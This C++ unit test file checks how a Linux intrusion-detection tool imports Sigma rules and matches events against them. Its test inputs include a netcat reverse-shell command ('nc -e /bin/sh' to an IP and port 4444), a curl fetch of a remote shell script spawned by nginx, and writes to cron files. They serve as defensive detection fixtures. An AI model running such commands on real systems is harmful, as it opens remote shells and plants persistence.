// Sigma import: real-world-shaped rules (fixtures/sigma) load and match; unsupported ones are
// reported with the reason and their position.
#include "detect/sigma.hpp"

#include <gtest/gtest.h>

#include "detect_test_util.hpp"

namespace privwatch::detect {
namespace {

using namespace testing;

const std::string kDir = std::string(PRIVWATCH_SOURCE_DIR) + "/tests/unit/detect/fixtures/sigma/";

RuleSet load(const std::string& file) {
  RuleSetBuilder b;
  auto s = b.add_path(kDir + file);
  EXPECT_TRUE(s) << (s ? "" : s.error().to_string());
  return std::move(b).finish();
}

TEST(Sigma, NetcatReverseShellAllOfSelections) {
  auto set = load("proc_creation_lnx_netcat_reverse_shell.yml");
  ASSERT_EQ(set.rules.size(), 1u);
  const Rule& r = *set.rules[0];
  EXPECT_EQ(r.name, "sigma.potential-netcat-reverse-shell-execution");
  EXPECT_EQ(r.source, "sigma");
  EXPECT_EQ(r.severity, model::Severity::kHigh);
  EXPECT_EQ(r.mitre, "T1059");
  EXPECT_EQ(r.kinds, kind_bit(model::EventKind::kExec));
  Engine e(std::move(set), no_limits());
  EXPECT_EQ(
      fire(e, {exec_event("/usr/bin/nc", {"nc", "-e", "/bin/sh", "10.0.0.1", "4444"})}).size(), 1u);
  // Case-insensitive like Sigma: /USR/BIN/NC still ends with /nc.
  EXPECT_EQ(fire(e, {exec_event("/USR/BIN/NC", {"nc", "-e", "/bin/sh", "h", "1"})}).size(), 1u);
  EXPECT_TRUE(fire(e, {exec_event("/usr/bin/nc", {"nc", "-l", "4444"})}).empty());
  EXPECT_TRUE(fire(e, {exec_event("/usr/bin/socat", {"socat", "-e", "/bin/sh"})}).empty());
}

TEST(Sigma, SelectionAndNotFilterWithAllModifier) {
  auto set = load("proc_creation_lnx_base64_decode.yml");
  ASSERT_EQ(set.rules.size(), 1u);
  EXPECT_EQ(set.rules[0]->severity, model::Severity::kLow);
  Engine e(std::move(set), no_limits());
  EXPECT_EQ(fire(e, {exec_event("/usr/bin/base64", {"base64", "-d", "blob"})}).size(), 1u);
  EXPECT_TRUE(fire(e, {exec_event("/usr/bin/base64", {"base64", "-d", "--help"})}).empty());
  EXPECT_TRUE(fire(e, {exec_event("/usr/bin/base64", {"base64", "blob"})}).empty());
}

TEST(Sigma, ListOfMapsWildcardsRegexAndParentImage) {
  auto set = load("proc_creation_lnx_susp_shell_child.yml");
  ASSERT_EQ(set.rules.size(), 1u) << (set.skipped.empty() ? "" : set.skipped[0]);
  Engine e(std::move(set), no_limits());
  auto shell = exec_event("/bin/bash", {"bash", "-c", "id"});
  shell.parent_exe = "/usr/sbin/php-fpm8.2";  // '/php-fpm*' wildcard
  EXPECT_EQ(fire(e, {shell}).size(), 1u);
  auto curl = exec_event("/usr/bin/curl", {"curl", "http://x/a.sh"});
  curl.parent_exe = "/usr/sbin/nginx";
  EXPECT_EQ(fire(e, {curl}).size(), 1u);
  auto ls = exec_event("/bin/ls", {"ls"});
  ls.parent_exe = "/usr/sbin/nginx";
  EXPECT_TRUE(fire(e, {ls}).empty());
  auto from_cron = exec_event("/bin/bash", {"bash"});
  from_cron.parent_exe = "/usr/sbin/cron";
  EXPECT_TRUE(fire(e, {from_cron}).empty());
}

TEST(Sigma, FileEventMatchesWritesOnly) {
  auto set = load("file_event_lnx_cron_files.yml");
  ASSERT_EQ(set.rules.size(), 1u);
  EXPECT_EQ(set.rules[0]->kinds, kind_bit(model::EventKind::kFile));
  Engine e(std::move(set), no_limits());
  EXPECT_EQ(
      fire(e, {file_event(model::FileOp::kOpen, "/etc/cron.d/evil", O_WRONLY | O_CREAT)}).size(),
      1u);
  EXPECT_TRUE(fire(e, {file_event(model::FileOp::kOpen, "/etc/cron.d/evil", O_RDONLY)}).empty());
  EXPECT_EQ(fire(e, {file_event(model::FileOp::kOpen, "/etc/cron.allow", O_WRONLY)}).size(), 1u);
}

TEST(Sigma, NetworkConnectionPortsAndCidrFilter) {
  auto set = load("net_connection_lnx_susp_port.yml");
  ASSERT_EQ(set.rules.size(), 1u) << (set.skipped.empty() ? "" : set.skipped[0]);
  Engine e(std::move(set), no_limits());
  EXPECT_EQ(fire(e, {connect_event("203.0.113.5", 4444)}).size(), 1u);
  EXPECT_TRUE(fire(e, {connect_event("10.1.1.1", 4444)}).empty());
  EXPECT_TRUE(fire(e, {connect_event("203.0.113.5", 443)}).empty());
}

TEST(Sigma, UnsupportedRulesAreReportedWithTheReason) {
  auto set = load("unsupported.yml");
  EXPECT_TRUE(set.rules.empty());
  ASSERT_EQ(set.skipped.size(), 7u);
  const std::string f = kDir + "unsupported.yml";
  auto has = [&](size_t i, const std::string& text) {
    EXPECT_NE(set.skipped[i].find(text), std::string::npos) << set.skipped[i];
    EXPECT_EQ(set.skipped[i].rfind(f + ":", 0), 0u) << set.skipped[i];
  };
  has(0, "modifier 'base64offset' is not supported");
  has(1, "aggregations ('| count() by ...') are not supported");
  has(2, "logsource service 'auditd' is not supported");
  has(3, "logsource product 'windows' is not supported (only linux)");
  has(4, "field 'DestinationHostname' has no privwatch equivalent");
  has(5, "modifier 'windash' is not supported");
  has(6, "keyword searches (values without a field) are not supported");
  EXPECT_NE(set.skipped[0].find("'Base64 Encoded Shebang In CLI'"), std::string::npos);
}

TEST(Sigma, MixesWithOurRulesInOneDirectory) {
  RuleSetBuilder b;
  ASSERT_TRUE(b.add_path(kDir));
  auto set = std::move(b).finish();
  EXPECT_EQ(set.rules.size(), 5u);
  EXPECT_EQ(set.skipped.size(), 7u);
}

TEST(Sigma, ConditionParserErrors) {
  const std::string head =
      "title: T\nlogsource: {product: linux, category: process_creation}\ndetection:\n"
      "  sel: {Image: /bin/x}\n";
  auto skipped = [&](const std::string& cond) {
    RuleSetBuilder b;
    EXPECT_TRUE(b.add_text(head + "  condition: " + cond + "\n", "s.yml"));
    auto set = std::move(b).finish();
    return set.skipped.empty() ? std::string() : set.skipped[0];
  };
  EXPECT_EQ(skipped("sel"), "");
  EXPECT_NE(skipped("sel and").find("condition ends too early"), std::string::npos);
  EXPECT_NE(skipped("(sel").find("missing ')'"), std::string::npos);
  EXPECT_NE(skipped("nosuch").find("condition names 'nosuch'"), std::string::npos);
  EXPECT_NE(skipped("2 of sel*").find("counts other than 1"), std::string::npos);
  EXPECT_NE(skipped("1 of other*").find("matches no selection"), std::string::npos);
  EXPECT_EQ(skipped("not (sel or sel)"), "");
}

}  // namespace
}  // namespace privwatch::detect
